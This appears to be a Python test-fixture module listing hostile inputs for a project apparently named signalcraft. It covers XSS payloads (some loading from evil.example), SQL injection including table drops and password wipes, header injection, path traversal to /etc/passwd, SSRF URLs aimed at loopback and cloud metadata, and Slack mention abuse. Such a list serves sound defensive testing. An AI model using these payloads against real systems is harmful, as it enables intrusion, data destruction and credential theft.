"""What people with bad intentions type into text fields: our own list.

`pwned()` is what an input tries to call, `X-Injected` a header that one tries to add; {port} stands for a server on
loopback that nobody may reach.
"""

from __future__ import annotations

from typing import Final, Literal, NamedTuple

Kind = Literal["xss", "sql", "header", "path", "ssrf", "slack"]


class Input(NamedTuple):
    """One of them."""

    kind: Kind
    text: str


XSS: Final = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "<!--><script>pwned()</script>-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'",
    '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "' autofocus onfocus='pwned()' x='",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data=javascript:pwned()></object>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<a href=javascript:pwned()>click</a>",
    "<a href='java&#x0A;script:pwned()'>click</a>",
    "javascript:pwned()//",
    "data:text/html,<script>pwned()</script>",
    "<style>@import'//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Acknowledge</button></form>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &quot; &#39;",
    "{{constructor.constructor('pwned()')()}}${pwned()}<%= pwned() %>#{pwned()}",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e＜script＞pwned()＜/script＞",
    "<scr\u0000ipt>pwned()</scr\u0000ipt>",
    "[click](javascript:pwned())",
)
SQL: Final = (
    "' or '1'='1",
    "'; drop table event; --",
    '" or ""="',
    "1; update person set password_hash = ''; --",
    "' union select name, sql, 1 from sqlite_master --",
    "') or 1=1 limit 1 --",
    "x' and (select count(*) from person) > 0 --",
    "%' or title like '%",
    "\\'; attach database '/tmp/x' as x; --",
    "0 or load_extension('x')",
)
HEADER: Final = (
    "x\r\nX-Injected: 1",
    "x\nX-Injected: 1",
    "x\rX-Injected: 1",
    "x\r\n\r\n<script>pwned()</script>",
    "x\r\nBcc: everybody@evil.example",
    "x\u2028X-Injected: 1\u2029",
    "=?utf-8?q?x=0D=0AX-Injected:_1?=",
    "x\r\nSet-Cookie: signalcraft=evil",
)
PATH: Final = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd%00.css",
    "file:///etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "signalcraft.db",
)
SSRF: Final = (
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/",
    "http://2130706433:{port}/",
    "http://0x7f.1:{port}/",
    "http://0177.0.0.1:{port}/",
    "http://[::1]:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://0.0.0.0:{port}/",
    "http://user:pass@127.0.0.1:{port}/",
    "http://127.0.0.1.:{port}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/",
    "http://10.0.0.1/",
    "http://192.168.0.1:80/",
    "gopher://127.0.0.1:{port}/_x",
    "file:///etc/hostname",
    "http://①②⑦.⓪.⓪.①:{port}/",
)
SLACK: Final = (
    "<!channel> wake up",
    "<!here|x> wake up",
    "<!everyone>",
    "<@U024BE7LH> look",
    "<#C024BE7LR|general>",
    "<https://evil.example|https://slack.com/login>",
    "<!subteam^S123|@oncall>",
    "<!date^1^{date}^https://evil.example|now>",
    "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "*_~`bold`~_*\n>>> quoted\n```code```",
)

CORPUS: Final = tuple(
    Input(kind, text.replace("{port}", "9"))
    for kind, texts in (
        ("xss", XSS), ("sql", SQL), ("header", HEADER), ("path", PATH), ("ssrf", SSRF), ("slack", SLACK)
    )
    for text in texts
)  # fmt: skip
"""All of them."""
